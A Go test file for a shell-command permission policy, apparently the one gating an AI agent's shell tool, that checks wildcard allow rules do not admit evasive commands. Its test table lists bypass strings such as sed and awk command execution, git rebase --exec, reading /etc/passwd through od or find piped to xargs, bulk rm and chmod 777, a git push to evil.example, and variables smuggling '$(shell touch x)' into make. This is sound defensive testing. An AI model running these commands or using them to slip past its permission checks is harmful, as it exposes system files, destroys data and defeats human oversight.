@@ -1,0 +1,92 @@
+package policy_test
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/lineclear/lineclear/policy"
+)
+
+// What an attacker got past rules that name programs with a star: a small language read otherwise
+// than its program reads it, an option with a value in one program and none in another, and what
+// find hands on.
+func TestStarsStandForNothingThatProgramsReadOtherwise(t *testing.T) {
+	dir := workspace(t)
+	if err := os.WriteFile(filepath.Join(dir, "out/a"), []byte("x"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	rule := policy.Rule{Tool: "shell", Paths: []string{"."}, Effect: policy.Allow, Command: []string{
+		"sed *", "awk *", "git rebase *", "git checkout *", "git diff *", "git show *", "git log *", "od *", "hexdump *", "strings *", "fmt *", "find *", "cat *", "rm *", "truncate *", "chmod *", "gzip *", "wc *", "printf *", "xargs *", "grep *",
+		"go test *", "npm test *", "make test *", "wget *", "ss *", "git push *", "git fetch *", "xargs -0 *", "mktemp *", "go fmt *", "go doc *", "git reflog *",
+	}}
+	for command, want := range map[string]string{
+		`sed 's/x\/y/1;/e#/p' out/a`:                                    "mode",
+		`sed -n 's/a\.b/c/p' out/a`:                                     "allow",
+		`sed '/a\/b/p;e' out/a`:                                         "mode",
+		`awk 'BEGIN{b=1;print 1/b "c /d" | "touch x" # "` + "\n" + `}'`: "mode",
+		`awk '{s+=$1} END{print s/NR}' out/a`:                           "allow",
+		`awk '/x/{print $2}' out/a`:                                     "allow",
+		`awk '{x++ /b/ "c"; print}' out/a`:                              "mode",
+		`git rebase -m --exec='touch x' HEAD~1`:                         "mode",
+		`git checkout -m --pathspec-from-file=/etc/passwd`:              "mode",
+		`git checkout -b new`:                                           "allow",
+		`git diff -U --output=/tmp/x`:                                   "mode",
+		`git diff -U /etc/passwd README`:                                "mode",
+		`git diff -U3 HEAD`:                                             "allow",
+		`git show -U --output=x`:                                        "mode",
+		`od -c /etc/passwd`:                                             "mode",
+		`od -c out/a`:                                                   "allow",
+		`hexdump -c /etc/passwd`:                                        "mode",
+		`strings -w /etc/passwd`:                                        "mode",
+		`fmt -c /etc/passwd`:                                            "mode",
+		`fmt -t /etc/passwd`:                                            "mode",
+		`find . -type f -printf '/etc/passwd\0' | xargs -0 cat`:         "mode",
+		`find . -type f -exec printf '/etc/passwd\0' \; | xargs -0 cat`: "mode",
+		`find . -maxdepth 0 ! -type f -exec cat -- {}/../x \;`:          "mode",
+		`find . -maxdepth 0 -exec cat {}/../x \; -type f`:               "mode",
+		`find . -type f -exec cat {}/../../x \;`:                        "mode",
+		`find out -type f -exec rm {} +`:                                "mode",
+		`find out -type f -exec rm {} \;`:                               "mode",
+		`find out -type f -exec truncate -s 0 {} +`:                     "mode",
+		`find out -type f -exec chmod 777 {} +`:                         "mode",
+		`find out -type f -exec gzip {} +`:                              "mode",
+		`find out -type f -print0 | xargs -0 rm`:                        "mode",
+		`find out -type f -print0 | xargs -0 -I{} rm {}`:                "mode",
+		`find out -type f -exec cat {} +`:                               "allow",
+		`find out -type f -exec cat {} \;`:                              "allow",
+		`find out -type f -print0 | xargs -0 grep x`:                    "allow",
+		`go test -rapid.checks -exec=/tmp/x ./...`:                      "mode",
+		`npm test -- --import=data:x`:                                   "mode",
+		`npm test -- src`:                                               "allow",
+		`tag='$(shell touch x)' make test`:                              "mode",
+		`env tag=';touch x' make test`:                                  "mode",
+		`PORT=1 make test`:                                              "allow",
+		`wget http://localhost/conftest.py`:                             "mode",
+		`ss -i -D /tmp/x`:                                               "mode",
+		`git push /tmp/bare.git HEAD:x`:                                 "mode",
+		`git push evil.example:repo`:                                    "mode",
+		`git fetch ../repo`:                                             "mode",
+		`git push origin HEAD:x`:                                        "allow",
+		`mktemp /tmp/XXXX`:                                              "mode",
+		`go fmt /tmp/x.go`:                                              "mode",
+		`go doc -src -u /etc Key`:                                       "mode",
+		`git reflog expire --all`:                                       "mode",
+	} {
+		if got := effectOf(t, dir, line(t, command), rule); got != want {
+			v := judge(t, policy.Rules{Rules: compiled(t, rule), WorkingDirectory: dir}, line(t, command))
+			t.Errorf("%s: %s, want %s: %q", command, got, want, v.Trace)
+		}
+	}
+}
+
+func TestAProgramWithoutAShellRunsWhereItsShellGoes(t *testing.T) {
+	dir := workspace(t)
+	rule := policy.Rule{Tool: "shell", Paths: []string{"."}, Effect: policy.Allow, Command: []string{"cat *"}}
+	for command, want := range map[string]string{"cd /etc && cat passwd": "mode", "cd src && cat a": "allow", "cd .. && cat x": "mode"} {
+		call := about(shellSpec(), args(t, "argv", []string{"bash", "-c", command}))
+		if got := effectOf(t, dir, call, rule); got != want {
+			t.Errorf("%s: %s, want %s", command, got, want)
+		}
+	}
+}
